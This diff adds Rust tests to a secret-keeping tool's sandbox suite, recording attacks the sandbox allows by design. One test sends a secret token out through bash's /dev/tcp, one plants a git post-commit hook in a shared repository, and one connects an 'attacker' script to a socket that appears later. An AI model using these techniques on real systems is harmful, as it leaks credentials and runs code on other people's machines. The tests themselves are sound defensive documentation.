@@ -1,8 +1,8 @@
-//! What works in a sandbox, and when there is none: the tools that robots build with, the
-//! working directory, a machine that forbids namespaces.
+//! What works in a sandbox, by intention or by nature: the tools that robots build with, and
+//! the attacks that nobody claims to stop. And when there is no sandbox to be had.
 
 use keyrack_tests::skip::{Missing, has, skip};
-use keyrack_tests::{Prison, need};
+use keyrack_tests::{Prison, daemons, need};
 
 #[test]
 fn a_working_directory_that_holds_keys_is_only_read() {
@@ -80,4 +80,59 @@ fn cargo_works_inside() {
         std::path::Path::new(&cargo).parent().expect("a directory").display()
     );
     build(&prison, &script).ok().stdout("Hello, world!\n");
+}
+
+/// Names are no secret, and values are in no command line.
+#[test]
+fn reading_command_lines_of_others_succeeds_by_design() {
+    let prison = Prison::ordinary();
+    let pid = prison.robot().expect("it runs");
+    prison.succeeds("", &format!("read /proc/{pid}/cmdline"));
+}
+
+/// What is hidden is what is there when the program starts.
+#[test]
+fn reaching_a_socket_that_comes_later_succeeds_by_design() {
+    let prison = Prison::ordinary();
+    let path = prison.rack().home().join("later.sock");
+    let attacker = prison.rack().path("attackers/inside.py");
+    let script = format!(
+        "keyrack exec --quiet --for bot --isolate -- sh -c 'touch up; until [ -e go ]; do sleep 0.02; done; python3 {} connect {}'",
+        attacker.display(),
+        path.display()
+    );
+    let running = prison.rack().script(&script).start();
+    daemons::until(|| prison.rack().path("work/up").exists());
+    let (_listener, _) = prison.listener("home/later.sock");
+    prison.rack().write("work/go", "");
+    running.finish().code(99);
+}
+
+/// What is shared on purpose is shared: whoever works in the same repository runs what the
+/// robot leaves there.
+#[test]
+fn a_hook_left_in_a_shared_repository_succeeds_by_design() {
+    need!("git");
+    let prison = Prison::ordinary();
+    let script = "git init -q shared; cd shared; printf '#!/bin/sh\\necho robot was here\\n' >hook; chmod +x hook; \
+        keyrack exec --quiet --for bot --isolate -- cp hook .git/hooks/post-commit; \
+        git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x";
+    let done = prison.rack().sh(script);
+    assert!(done.ok().errors().contains("robot was here"), "{done}");
+}
+
+/// Values are for the program: with a network it can send them anywhere.
+#[test]
+fn sending_a_value_away_succeeds_by_design() {
+    use std::io::Read as _;
+    let prison = Prison::ordinary();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
+    let port = listener.local_addr().expect("bound").port();
+    let line = format!(
+        "keyrack exec --quiet --for bot --key TOKEN --isolate -- bash -c 'printf %s $TOKEN >/dev/tcp/127.0.0.1/{port}'"
+    );
+    prison.rack().sh(&line).ok();
+    let mut told = String::new();
+    listener.accept().expect("it came").0.read_to_string(&mut told).expect("text");
+    assert_eq!(told, "bot-value");
 }
